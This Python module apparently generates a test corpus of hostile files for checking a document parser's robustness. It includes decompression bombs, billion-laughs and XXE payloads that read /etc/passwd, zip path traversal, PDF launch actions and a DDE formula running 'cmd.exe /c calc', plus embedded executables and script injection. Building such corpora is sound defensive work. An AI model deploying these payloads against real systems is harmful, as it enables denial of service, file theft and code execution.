"""Files made to harm, each by a few lines: what they say they are, and what they do to whoever believes them.

``FILES`` maps a name (its suffix is what the sender calls it) to a function that makes the bytes. None is larger than
a few megabytes: the harm is in the unpacking.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from random import Random

Make = Callable[[], bytes]
FILES: dict[str, Make] = {}

MEGABYTE = 1 << 20


def hostile(name: str) -> Callable[[Make], Make]:
    def add(make: Make) -> Make:
        assert name not in FILES
        FILES[name] = make
        return make

    return add


# --- PDF --------------------------------------------------------------------------------------------------------


def pdf(*objects: bytes, trailer: bytes = b"", root: int = 1) -> bytes:
    """A file with these objects, numbered from 1, and a right table of where they are."""
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<</Size %d/Root %d 0 R%s>>\n" % (len(objects) + 1, root, trailer)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % table)


def stream(data: bytes, more: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), more, data)


def flate(data: bytes, more: bytes = b"") -> bytes:
    return stream(zlib.compress(data, 9), b"/Filter/FlateDecode" + more)


def zeros(megabytes: int) -> bytes:
    """Nothing but zeros, packed: a megabyte of it is a kilobyte."""
    packer, block = zlib.compressobj(9), bytes(MEGABYTE)
    return b"".join(packer.compress(block) for _ in range(megabytes)) + packer.flush()


CATALOG, PAGES = b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>"
FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"


def page(content: bytes, *others: bytes, resources: bytes = b"/Font<</F 5 0 R>>", box: bytes = b"0 0 595 842",
         catalog: bytes = CATALOG, font: bytes = FONT) -> bytes:  # fmt: skip
    """One page; ``content`` is object 4, its font object 5, ``others`` from 6 on."""
    sheet = b"<</Type/Page/Parent 2 0 R/MediaBox[%s]/Contents 4 0 R/Resources<<%s>>>>" % (box, resources)
    return pdf(catalog, PAGES, sheet, content, font, *others)


TEXT = b"BT /F 12 Tf 72 720 Td (2024) Tj ET"

hostile("bomb-in-content.pdf")(lambda: page(stream(zeros(1024), b"/Filter/FlateDecode")))
hostile("bomb-in-a-bomb.pdf")(lambda: page(stream(zlib.compress(zeros(2048), 9), b"/Filter[/FlateDecode/FlateDecode]")))
hostile("sixty-filters.pdf")(lambda: page(stream(zeros(8), b"/Filter[" + b"/FlateDecode" * 60 + b"]")))
hostile("run-length-bomb.pdf")(lambda: page(flate(b"\x81a" * 2_000_000, b"/Filter[/FlateDecode/RunLengthDecode]")))
hostile("lzw-noise.pdf")(lambda: page(stream(Random(1).randbytes(200_000), b"/Filter/LZWDecode")))
hostile("predictor-of-two-thousand-million-columns.pdf")(
    lambda: page(flate(TEXT, b"/DecodeParms<</Predictor 12/Columns 2147483647/Colors 32/BitsPerComponent 16>>"))
)
hostile("pages-that-are-their-own-parents.pdf")(
    lambda: pdf(CATALOG, b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2/Parent 2 0 R>>")
)
hostile("pages-in-a-ring.pdf")(
    lambda: pdf(CATALOG, b"<</Type/Pages/Kids[3 0 R]/Count 9>>", b"<</Type/Pages/Kids[2 0 R]/Count 9>>")
)
hostile("two-thousand-million-pages.pdf")(lambda: pdf(CATALOG, b"<</Type/Pages/Kids[]/Count 2147483647>>"))
hostile("length-that-is-itself.pdf")(lambda: page(b"<</Length 4 0 R>>\nstream\n" + TEXT + b"\nendstream"))
hostile("object-that-is-itself.pdf")(lambda: pdf(CATALOG, b"2 0 R"))
hostile("arrays-in-arrays.pdf")(lambda: pdf(CATALOG, PAGES, b"[" * 200_000))
hostile("dictionaries-in-dictionaries.pdf")(lambda: pdf(CATALOG, PAGES, b"<</A" * 200_000))
hostile("arrays-in-content.pdf")(lambda: page(flate(b"[" * 500_000 + TEXT)))
hostile("states-never-restored.pdf")(lambda: page(flate(b"q " * 1_000_000 + TEXT)))
hostile("millions-of-lines.pdf")(lambda: page(flate(b"0 0 m 9 9 l S " * 1_500_000)))
hostile("millions-of-letters.pdf")(lambda: page(flate(b"BT /F 1 Tf " + b"(1) Tj " * 1_500_000 + b"ET")))
hostile("a-form-that-draws-itself.pdf")(
    lambda: page(
        stream(b"/X Do"),
        stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 6 0 R>>>>"),
        resources=b"/XObject<</X 6 0 R>>",
    )
)
hostile("forms-that-double.pdf")(
    lambda: page(
        stream(b"/X Do"),
        *(
            stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>" % n)
            for n in range(7, 47)
        ),
        stream(b"0 0 m 1 1 l S", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]"),
        resources=b"/XObject<</X 6 0 R>>",
    )
)
hostile("a-letter-drawn-with-itself.pdf")(
    lambda: page(
        stream(TEXT),
        stream(b"BT /F 1 Tf (2) Tj ET"),
        font=b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/FirstChar 50/LastChar 50/Widths[9]"
        b"/Encoding<</Differences[50/a]>>/CharProcs<</a 6 0 R>>/Resources<</Font<</F 5 0 R>>>>>>",
    )
)


def embedded_font(kind: bytes, data: bytes, subtype: bytes = b"/TrueType") -> bytes:
    font = b"<</Type/Font/Subtype%s/BaseFont/X/FirstChar 0/LastChar 255/FontDescriptor 6 0 R>>" % subtype
    described = b"<</Type/FontDescriptor/FontName/X/Flags 4/%s 7 0 R>>" % kind
    return page(stream(TEXT), described, flate(data), font=font)


hostile("font-of-noise.pdf")(lambda: embedded_font(b"FontFile2", Random(2).randbytes(100_000)))
hostile("font-with-tables-everywhere.pdf")(
    lambda: embedded_font(
        b"FontFile2",
        b"\0\1\0\0"
        + struct.pack(">HHHH", 65535, 16, 4, 0)
        + struct.pack(">4sIII", b"glyf", 0, 2**32 - 1, 2**32 - 1) * 4000,
    )
)
hostile("type1-font-of-noise.pdf")(
    lambda: embedded_font(b"FontFile", b"%!PS-AdobeFont-1.0\n" + Random(3).randbytes(90_000), b"/Type1")
)
hostile("compact-font-of-noise.pdf")(
    lambda: embedded_font(b"FontFile3", b"\1\0\4\4" + Random(4).randbytes(90_000), b"/Type1")
)


def unicode_map(text: bytes) -> bytes:
    font = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/ToUnicode 6 0 R>>"
    return page(stream(TEXT), flate(text), font=font)


hostile("map-of-all-letters-a-thousand-times.pdf")(
    lambda: unicode_map(b"begincmap\n" + b"1 beginbfrange\n<0000> <FFFF> <0000>\nendbfrange\n" * 1500 + b"endcmap")
)
hostile("map-of-four-thousand-million-letters.pdf")(
    lambda: unicode_map(b"begincmap\n1 beginbfrange\n<00000000> <FFFFFFFF> <0000>\nendbfrange\nendcmap")
)
hostile("map-that-uses-itself.pdf")(
    lambda: page(
        stream(TEXT),
        stream(b"begincmap\n/Self usecmap\nendcmap", b"/Type/CMap/CMapName/Self/UseCMap 6 0 R"),
        font=b"<</Type/Font/Subtype/Type0/BaseFont/X/Encoding 6 0 R/DescendantFonts[5 0 R]>>",
    )
)
hostile("page-as-wide-as-a-country.pdf")(lambda: page(stream(TEXT), box=b"0 0 99999999999 99999999999"))
hostile("page-without-a-size.pdf")(lambda: page(stream(TEXT), box=b"9 9 -9 nan"))
hostile("matrix-of-infinities.pdf")(lambda: page(stream(b"1e308 1e308 1e308 1e308 1e308 1e308 cm " * 99 + TEXT)))
hostile("script-on-opening.pdf")(
    lambda: page(
        stream(TEXT),
        b"<</S/JavaScript/JS(app.launchURL\\('http://127.0.0.1/'\\);)>>",
        catalog=b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/AA<</WC 6 0 R>>>>",
    )
)
hostile("program-on-opening.pdf")(
    lambda: page(
        stream(TEXT),
        b"<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>",
        stream(b"MZ" + bytes(99), b"/Type/EmbeddedFile"),
        b"<</Type/Filespec/F(../../run.exe)/EF<</F 7 0 R>>>>",
        catalog=b"<</Type/Catalog/Pages 2 0 R/OpenAction 6 0 R/Names<</EmbeddedFiles<</Names[(a)8 0 R]>>>>>>",
    )
)


def picture(width: int, height: int, data: bytes, more: bytes) -> bytes:
    image = b"/Type/XObject/Subtype/Image/Width %d/Height %d/ColorSpace/DeviceRGB/BitsPerComponent 8%s"
    drawn = stream(b"595 0 0 842 0 0 cm /I Do")
    return page(drawn, stream(data, image % (width, height, more)), resources=b"/XObject<</I 6 0 R>>")


hostile("picture-of-nine-hundred-million-points.pdf")(
    lambda: picture(30_000, 30_000, zeros(1024), b"/Filter/FlateDecode")
)
hostile("picture-that-claims-more-than-it-has.pdf")(lambda: picture(2**31 - 1, 2**31 - 1, b"x", b""))
hostile("jbig2-of-noise.pdf")(lambda: picture(2000, 2000, Random(5).randbytes(9000), b"/Filter/JBIG2Decode"))
hostile("jpx-of-noise.pdf")(lambda: picture(2000, 2000, Random(6).randbytes(9000), b"/Filter/JPXDecode"))
hostile("locked-with-nonsense.pdf")(
    lambda: pdf(CATALOG, PAGES, trailer=b"/Encrypt<</Filter/Standard/V 5/R 6/O(x)/U(y)/P -1/Length 99999>>/ID[(a)(b)]")
)
hostile("cut-in-the-middle.pdf")(lambda: page(flate(TEXT * 9999))[:700])
hostile("table-that-comes-before-itself.pdf")(lambda: pdf(CATALOG, PAGES, trailer=b"/Prev 9"))
hostile("table-before-the-file.pdf")(lambda: pdf(CATALOG, PAGES, trailer=b"/Prev -99999999999999999999"))
hostile("stream-of-objects-in-itself.pdf")(
    lambda: pdf(
        CATALOG, PAGES, flate(b"9 0 3 9 <<>> 3 0 R", b"/Type/ObjStm/N 99999999/First 8/Extends 3 0 R"),
    )
)  # fmt: skip
hostile("table-of-a-thousand-million-objects.pdf")(
    lambda: (
        b"%PDF-1.7\n1 0 obj\n"
        + flate(b"\0" * 99, b"/Type/XRef/W[8 8 8]/Index[0 999999999]/Size 999999999/Root 1 0 R")
        + b"\nendobj\nstartxref\n9\n%%EOF\n"
    )
)
hostile("name-of-four-megabytes.pdf")(lambda: page(flate(b"/" + b"a" * (4 * MEGABYTE) + b" gs " + TEXT)))
hostile("string-never-closed.pdf")(lambda: page(flate(b"BT /F 9 Tf (" + b"(" * (4 * MEGABYTE))))


@hostile("ten-thousand-pages.pdf")
def _ten_thousand_pages() -> bytes:
    kids = b" ".join(b"%d 0 R" % number for number in range(5, 10_005))
    sheet = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 3 0 R/Resources<</Font<</F 4 0 R>>>>>>"
    pages = b"<</Type/Pages/Kids[%s]/Count 10000>>" % kids
    return pdf(CATALOG, pages, stream(TEXT), FONT, *([sheet] * 10_000))


# --- packages: Word, OpenDocument, Excel --------------------------------------------------------------------------

WORD = (
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    ' xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><w:body>%s</w:body></w:document>'
)
TYPES = (
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/word/document.xml" ContentType='
    '"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
RELATIONS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" Type='
    '"http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/>'
    "</Relationships>"
)
TITLE = "<w:p><w:r><w:t>2024年政府信息公开工作年度报告</w:t></w:r></w:p>"
LAUGHS = "<!DOCTYPE x [<!ENTITY a0 'ha'>%s]>" % "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12))
OUTSIDE = "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'><!ENTITY h SYSTEM 'http://127.0.0.1:1/'>]>"


def package(parts: dict[str, bytes | str], level: int = 9) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx(body: str = TITLE, before: str = "", **more: bytes | str) -> bytes:
    """A Word document with this body, ``before`` it a DOCTYPE; ``more`` are parts, with / for each __."""
    parts: dict[str, bytes | str] = {"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS}
    parts["word/document.xml"] = before + WORD % body
    return package(parts | {name.replace("__", "/"): data for name, data in more.items()})


def big_part(name: str, head: str, block: bytes, times: int, tail: str, kept: dict[str, str]) -> bytes:
    """A package one part of which unpacks to ``times`` blocks."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for other, data in kept.items():
            archive.writestr(other, data)
        with archive.open(name, "w", force_zip64=True) as part:
            part.write(head.encode())
            for _ in range(times):
                part.write(block)
            part.write(tail.encode())
    return out.getvalue()


WORD_PARTS = {"[Content_Types].xml": TYPES, "_rels/.rels": RELATIONS}
hostile("bomb.docx")(
    lambda: big_part(
        "word/document.xml",
        WORD.split("%s", maxsplit=1)[0],
        b" " * MEGABYTE,
        1500,
        "</w:body></w:document>",
        WORD_PARTS,
    )
)
hostile("bomb-of-paragraphs.docx")(
    lambda: big_part(
        "word/document.xml",
        WORD.split("%s", maxsplit=1)[0],
        b"<w:p/>" * 100_000,
        150,
        "</w:body></w:document>",
        WORD_PARTS,
    )
)
hostile("laughs.docx")(lambda: docx("<w:p><w:r><w:t>&a11;</w:t></w:r></w:p>", LAUGHS))
hostile("reads-the-servers-files.docx")(lambda: docx("<w:p><w:r><w:t>&e;&h;</w:t></w:r></w:p>", OUTSIDE))
hostile("tables-in-tables.docx")(
    lambda: docx("<w:tbl><w:tr><w:tc>" * 20_000 + TITLE + "</w:tc></w:tr></w:tbl>" * 20_000)
)
hostile("row-of-a-million-cells.docx")(
    lambda: docx("<w:tbl><w:tr>" + "<w:tc><w:p/></w:tc>" * 1_000_000 + "</w:tr></w:tbl>")
)
hostile("cell-as-wide-as-the-world.docx")(
    lambda: docx(
        '<w:tbl><w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr><w:p/></w:tc></w:tr>'
        '<w:tr><w:trPr><w:gridBefore w:val="2147483647"/></w:trPr><w:tc><w:p/></w:tc></w:tr></w:tbl>'
    )
)
hostile("macros.docx")(
    lambda: docx(word__vbaProject_bin=b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(9000), word__embeddings__o_bin=b"MZ")
)
hostile("template-from-elsewhere.docx")(
    lambda: docx(
        '<w:altChunk r:id="r9"/>' + TITLE,
        word___rels__document_xml_rels='<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        'relationships"><Relationship Id="r9" TargetMode="External" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/aFChunk" Target="http://127.0.0.1:1/x"/></Relationships>',
    )
)
hostile("parts-outside-the-package.docx")(
    lambda: package(
        {**WORD_PARTS, "word/document.xml": WORD % TITLE, "../../../../tmp/owned": b"x", "/etc/owned": b"x"}
    )
)
hostile("sixty-thousand-parts.docx")(
    lambda: package({**WORD_PARTS, **{f"word/{n}": b"" for n in range(60_000)}, "word/document.xml": WORD % TITLE}, 1)
)
hostile("no-document-in-it.docx")(lambda: package({"[Content_Types].xml": TYPES}))
hostile("empty-package.docx")(lambda: b"PK\5\6" + bytes(18))


@hostile("part-that-is-not-what-it-sums-to.docx")
def _wrong_sum() -> bytes:
    data = bytearray(docx())
    at = data.index(b"word/document.xml") + len(b"word/document.xml") + 40
    data[at : at + 20] = bytes(20)
    return bytes(data)


@hostile("part-that-says-it-is-locked.docx")
def _locked_part() -> bytes:
    data = bytearray(docx())
    for mark, offset in ((b"PK\3\4", 6), (b"PK\1\2", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


OPEN = {"mimetype": "application/vnd.oasis.opendocument.text"}
CONTENT = (
    "%s<office:document-content xmlns:office='urn:oasis:names:tc:opendocument:xmlns:office:1.0'"
    " xmlns:table='urn:oasis:names:tc:opendocument:xmlns:table:1.0'"
    " xmlns:text='urn:oasis:names:tc:opendocument:xmlns:text:1.0'>"
    "<office:body><office:text>%s</office:text></office:body></office:document-content>"
)
hostile("laughs.odt")(lambda: package({**OPEN, "content.xml": CONTENT % (LAUGHS, "<text:p>&a11;</text:p>")}))
hostile("reads-the-servers-files.odt")(
    lambda: package({**OPEN, "content.xml": CONTENT % (OUTSIDE, "<text:p>&e;</text:p>")})
)
hostile("repeats-a-thousand-million-times.odt")(
    lambda: package({
        **OPEN,
        "content.xml": CONTENT % (
            "",
            "<table:table><table:table-row table:number-rows-repeated='1048576'><table:table-cell "
            "table:number-columns-repeated='2147483647'><text:p>1</text:p></table:table-cell></table:table-row></table:table>",
        ),
    })
)  # fmt: skip
hostile("spaces-a-thousand-million-times.odt")(
    lambda: package({**OPEN, "content.xml": CONTENT % ("", "<text:p>1<text:s text:c='2147483647'/>2</text:p>")})
)

SHEET = (
    '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>%s</sheetData></worksheet>'
)
BOOK = {
    "[Content_Types].xml": '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
    '<Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.'
    'sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.spreadsheetml.worksheet+xml"/></Types>',
    "_rels/.rels": RELATIONS.replace("word/document.xml", "xl/workbook.xml"),
    "xl/workbook.xml": '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r='
    '"http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="r1"/>'
    "</sheets></workbook>",
    "xl/_rels/workbook.xml.rels": '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" '
    'Target="worksheets/sheet1.xml"/></Relationships>',
}


def xlsx(rows: str, before: str = "") -> bytes:
    return package({**BOOK, "xl/worksheets/sheet1.xml": before + SHEET % rows})


hostile("laughs.xlsx")(lambda: xlsx('<row r="1"><c r="A1" t="str"><v>&a11;</v></c></row>', LAUGHS))
hostile("one-cell-in-the-last-corner.xlsx")(lambda: xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>', ""))
hostile("cells-beyond-the-sheet.xlsx")(lambda: xlsx('<row r="99999999999"><c r="ZZZZZZ99999999999"><v>1</v></c></row>'))
hostile("formula-that-starts-a-program.xlsx")(
    lambda: xlsx('<row r="1"><c r="A1"><f>cmd|" /c calc"!A1</f><v>1</v></c></row>')
)
hostile("bomb.xlsx")(
    lambda: big_part(
        "xl/worksheets/sheet1.xml", SHEET.split("%s", maxsplit=1)[0], b'<row><c t="n"><v>1</v></c></row>' * 30_000, 300,
        "</sheetData></worksheet>", BOOK,
    )
)  # fmt: skip

# --- OFD --------------------------------------------------------------------------------------------------------

OFD_SPACE = 'xmlns:ofd="http://www.ofdspec.org/2016"'
OFD_TEXT = (
    '<ofd:TextObject ID="7" Font="3" Size="{}" Boundary="10 20 99 9"><ofd:TextCode X="{}" Y="4" DeltaX="{}">'
    "第一、总体情况</ofd:TextCode></ofd:TextObject>"
)


def ofd(content: str = "", box: str = "0 0 210 297", before: str = "", **more: bytes | str) -> bytes:
    """A package of one page; of names the first ``__`` is a slash."""
    parts: dict[str, bytes | str] = {
        "OFD.xml": f"<ofd:OFD {OFD_SPACE}><ofd:DocBody><ofd:DocRoot>D/D.xml</ofd:DocRoot></ofd:DocBody></ofd:OFD>",
        "D/D.xml": f"<ofd:Document {OFD_SPACE}><ofd:CommonData><ofd:PageArea><ofd:PhysicalBox>{box}</ofd:PhysicalBox>"
        '</ofd:PageArea><ofd:DocumentRes>R.xml</ofd:DocumentRes></ofd:CommonData><ofd:Pages><ofd:Page ID="1" '
        'BaseLoc="P.xml"/></ofd:Pages></ofd:Document>',
        "D/P.xml": f"{before}<ofd:Page {OFD_SPACE}><ofd:Content><ofd:Layer ID='2'>{content}</ofd:Layer></ofd:Content>"
        "</ofd:Page>",
        "D/R.xml": f"<ofd:Res {OFD_SPACE}/>",
    }
    return package(parts | {name.replace("__", "/", 1) + ".xml": part for name, part in more.items()})


hostile("laughs.ofd")(lambda: ofd("&a11;", before=LAUGHS))
hostile("advances-for-ever.ofd")(lambda: ofd(OFD_TEXT.format(4, 0, "g 999999999 3 " * 2000)))
hostile("numbers-that-are-none.ofd")(
    lambda: ofd(OFD_TEXT.format("1e308", "nan", "inf 1e308 -1e308"), "0 0 1e308 1e-300")
)
hostile("page-as-wide-as-the-world.ofd")(lambda: ofd(OFD_TEXT.format(4, 0, 4), "0 0 999999999 297"))
hostile("million-objects.ofd")(lambda: ofd('<ofd:PathObject Boundary="0 0 9 9"/>' * 1_000_000))
hostile("layers-in-layers.ofd")(lambda: ofd("<ofd:PageBlock>" * 50_000 + "</ofd:PageBlock>" * 50_000))
hostile("unit-in-itself.ofd")(
    lambda: ofd(
        '<ofd:CompositeObject ResourceID="6"/>' * 9,
        D__R=f'<ofd:Res {OFD_SPACE}><ofd:CompositeGraphicUnit ID="6"><ofd:Content>'
        + '<ofd:CompositeObject ResourceID="6"/>' * 9
        + "</ofd:Content></ofd:CompositeGraphicUnit></ofd:Res>",
    )
)
hostile("outline-without-end.ofd")(
    lambda: ofd(
        f'<ofd:PathObject Boundary="0 0 9 9"><ofd:AbbreviatedData>{"B 1 2 3 4 5 6 " * 300_000}'
        "</ofd:AbbreviatedData></ofd:PathObject>"
    )
)
hostile("parts-outside-the-package.ofd")(
    lambda: package(
        {
            "OFD.xml": f"<ofd:OFD {OFD_SPACE}><ofd:DocBody><ofd:DocRoot>"
            "../../etc/passwd</ofd:DocRoot></ofd:DocBody></ofd:OFD>"
        }
    )
)


# --- pages and text -------------------------------------------------------------------------------------------------

HEADING = "<html><body><h1>2024年政府信息公开工作年度报告</h1>"
hostile("elements-in-elements.html")(lambda: (HEADING + "<div>" * 300_000).encode())
hostile("tables-in-tables.html")(lambda: (HEADING + "<table><tr><td>" * 30_000 + "1").encode())
hostile("cell-as-large-as-the-world.html")(
    lambda: (HEADING + "<table><tr><td colspan=2147483647 rowspan=2147483647>1<tr><td>2</table>").encode()
)
hostile("rows-that-span-each-other.html")(
    lambda: (HEADING + "<table>" + "<tr><td rowspan=65534 colspan=1000>1" * 3000 + "</table>").encode()
)
hostile("attribute-of-eight-megabytes.html")(lambda: (HEADING + f"<p title='{'a' * 8 * MEGABYTE}'>1</p>").encode())
hostile("entities-from-elsewhere.html")(lambda: (OUTSIDE + HEADING + "<p>&e;&h;</p>").encode())
hostile("script-and-frames.html")(
    lambda: (
        HEADING + "<script>while(1){}</script><iframe src=file:///etc/passwd></iframe><img src=http://127.0.0.1:1/x>"
        "<link rel=stylesheet href=http://127.0.0.1:1/><meta http-equiv=refresh content=0>"
    ).encode()
)
hostile("seven-bit-tricks.html")(
    lambda: b"<meta charset=utf-7><html><body>+ADw-script+AD4-alert(1)+ADw-/script+AD4-<table><tr><td>1</table>"
)
hostile("closing-only.html")(lambda: ("<html>" + "</div></table></td>" * 300_000).encode())
hostile("parts-in-parts.mht")(
    lambda: (
        b"MIME-Version: 1.0\n"
        + b"".join(b"Content-Type: multipart/related; boundary=b%d\n\n--b%d\n" % (n, n) for n in range(3000))
        + b"Content-Type: text/html\n\n<html></html>"
    )
)
hostile("ten-thousand-parts.mht")(
    lambda: (
        b"MIME-Version: 1.0\nContent-Type: multipart/related; boundary=b\n\n"
        + b"--b\nContent-Type: text/html\nContent-Transfer-Encoding: base64\n\nPGh0bWw+\n" * 10_000
        + b"--b--"
    )
)
hostile("one-endless-line.txt")(lambda: b"1 " * (3 * MEGABYTE))
hostile("a-million-lines.txt")(lambda: "政府信息公开 1 2 3\n".encode() * 250_000)
hostile("nothing-but-headings.txt")(lambda: "一、总体情况\n二、主动公开政府信息情况\n".encode() * 60_000)
hostile("bars-without-end.md")(lambda: ("|" * 2_000_000 + "\n").encode())
hostile("turned-round.txt")(lambda: ("2024年\u202e告报度年\u202c" + "\u0301" * 500_000).encode())
hostile("numbers-without-end.txt")(lambda: ("收到申请" + "9" * 1_000_000 + "件。").encode())
hostile("brackets-without-end.txt")(lambda: ("（" * 300_000 + "一、总体情况" + "，其中" * 200_000).encode())
hostile("noise.txt")(lambda: Random(7).randbytes(900_000).replace(b"\0", b"\1"))

# --- pictures ---------------------------------------------------------------------------------------------------------


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int, height: int, packed: bytes, *more: bytes) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(more) + chunk(b"IDAT", packed) + chunk(b"IEND", b"")


def tiff(*tags: tuple[int, int, int, int], following: int = 0) -> bytes:
    """One directory at byte 8 with these tags (number, kind, count, value), then the place of the next."""
    rows = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    return b"II*\0" + struct.pack("<I", 8) + struct.pack("<H", len(tags)) + rows + struct.pack("<I", following)


hostile("nine-hundred-million-points.png")(lambda: png(30_000, 30_000, zeros(859)))
hostile("claims-more-points-than-there-are.png")(lambda: png(2**31 - 1, 2**31 - 1, zlib.compress(b"\0")))
hostile("notes-that-unpack-to-a-gigabyte.png")(
    lambda: png(9, 9, zlib.compress(bytes(90)), *([chunk(b"zTXt", b"a\0\0" + zeros(256))] * 4))
)
hostile("cut.png")(lambda: png(900, 900, zlib.compress(bytes(900 * 901)))[:300])
hostile("four-thousand-million-points.jpg")(
    lambda: b"\xff\xd8\xff\xc0\0\x0b\x08\xff\xff\xff\xff\1\1\x11\0\xff\xda\0\x08\1\1\0\0?\0" + bytes(99) + b"\xff\xd9"
)
hostile("jpeg-of-noise.jpg")(lambda: b"\xff\xd8\xff\xe0" + Random(8).randbytes(90_000))
hostile("pages-in-a-ring.tiff")(
    lambda: tiff((256, 3, 1, 9), (257, 3, 1, 9), (259, 3, 1, 1), (273, 4, 1, 8), (279, 4, 1, 9), following=8)
)
hostile("points-without-end.tiff")(
    lambda: tiff((256, 4, 1, 2**31), (257, 4, 1, 2**31), (259, 3, 1, 1), (273, 4, 2**31, 8), (279, 4, 2**31, 9))
)

# --- old Word, rich text, and things that are two things at once ---------------------------------------------------------

hostile("groups-in-groups.rtf")(lambda: b"{\\rtf1" + b"{\\b " * 300_000)
hostile("binary-of-two-gigabytes.rtf")(lambda: b"{\\rtf1 {\\bin2147483647 x}}")
hostile("object-to-run.rtf")(lambda: b"{\\rtf1{\\object\\objautlink\\objupdate{\\*\\objdata " + b"41" * 9000 + b"}}}")
hostile("chain-that-bites-its-tail.doc")(
    lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 62, 3, 65534, 9, 6) + bytes(480)
    + b"\0\0\0\0" * 2000
)  # fmt: skip
hostile("noise.doc")(lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + Random(9).randbytes(60_000))
hostile("a-page-and-a-package.pdf")(lambda: page(stream(TEXT)) + docx())
hostile("a-script-before-the-page.pdf")(lambda: b"<script>alert(1)</script>\n" + page(stream(TEXT)))
hostile("a-program.pdf")(lambda: b"MZ" + bytes(200) + page(stream(TEXT)))
hostile("a-page-called-a-picture.png")(lambda: (HEADING + "<script>alert(1)</script>").encode())
hostile("a-picture-called-a-report.docx")(lambda: png(9, 9, zlib.compress(bytes(90))))
hostile("nothing.pdf")(lambda: b"%PDF-1.7")
